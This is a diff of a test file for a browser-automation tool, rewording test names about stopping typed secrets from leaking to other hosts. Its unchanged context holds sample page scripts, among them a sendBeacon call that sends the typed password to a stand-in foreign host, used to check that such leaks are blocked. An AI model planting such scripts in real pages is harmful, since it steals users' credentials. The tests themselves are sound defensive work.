@@ -4,7 +4,7 @@ import { asItIs, FIELD, SECRET, sending, stopped, submit, test, WAYS, walkThroug
 import { page, to } from './service.ts'
 
 for (const [what, says, alter, instead] of WAYS)
-  test(`${what} leads nothing that was typed to another host`, async ({ hasty, abroad }) => {
+  test(`${what} is stopped, and the other host receives nothing`, async ({ hasty, abroad }) => {
     const { origin, sent } = abroad
     const { failure, own } = await walkThrough(hasty, alter(origin), instead?.(origin))
     expect(failure?.reason).toMatch(stopped(says, own, origin))
@@ -13,7 +13,7 @@ for (const [what, says, alter, instead] of WAYS)
     expect(JSON.stringify(failure)).not.toContain(SECRET)
   })
 
-test('a page that goes on once its field has the focus gets nothing typed on its next page', async ({
+test('if a page changes as soon as its field has the focus, nothing is typed into the next page', async ({
   hasty,
 }) => {
   const typed: string[] = []
@@ -34,7 +34,7 @@ test('a page that goes on once its field has the focus gets nothing typed on its
   expect(typed.join()).not.toContain(SECRET)
 })
 
-test('what goes wrong after a document of a frame was stopped is blocked by that, and not the fault of the page', async ({
+test('a walk that fails after a document in a frame was stopped is blocked, and does not blame the page', async ({
   hasty,
   abroad: { origin },
 }) => {
@@ -60,7 +60,7 @@ test('the redirect of a pop-up does not reach the application', async ({ session
   expect(client.visits).toEqual([])
 })
 
-/** Ways of a script to send what was typed while the walk goes on; each is a promise of its end. */
+/** Scripts that try to send the typed password to another host while the walk continues. */
 const SCRIPTS: readonly ((abroad: string) => string)[] = [
   (abroad) =>
     `navigator.sendBeacon('${abroad}/b', new Blob([JSON.stringify({ pw })])); await fetch('/settled')`,
@@ -86,7 +86,7 @@ const SCRIPTS: readonly ((abroad: string) => string)[] = [
     `document.body.append(Object.assign(document.createElement('iframe'), { src: '${abroad}/frame' })); await fetch('/settled')`,
 ]
 
-test('what scripts send of what was typed is stopped and named, and the walk goes on', async ({
+test('requests of scripts with typed values are stopped and reported, and the walk continues', async ({
   session,
   abroad: { origin, sent },
 }) => {
@@ -107,7 +107,7 @@ test('what scripts send of what was typed is stopped and named, and the walk goe
   expect(JSON.stringify(walk)).not.toContain(SECRET)
 })
 
-test('what a page loads from other hosts without what was typed comes', async ({
+test('a page can load styles and images from other hosts, as long as it sends no typed value', async ({
   session,
   abroad: { origin, sent },
 }) => {
@@ -118,7 +118,7 @@ test('what a page loads from other hosts without what was typed comes', async ({
   expect(sent.map((line) => line.split(' ')[1]).sort()).toEqual(['/logo.png', '/style.css?v=1'])
 })
 
-test('a value that is short is found in what is sent, and not taken for a word of an address', async ({
+test('a short typed value is found in the body of a request, but not in the path of an address', async ({
   session,
   abroad: { origin, sent },
 }) => {
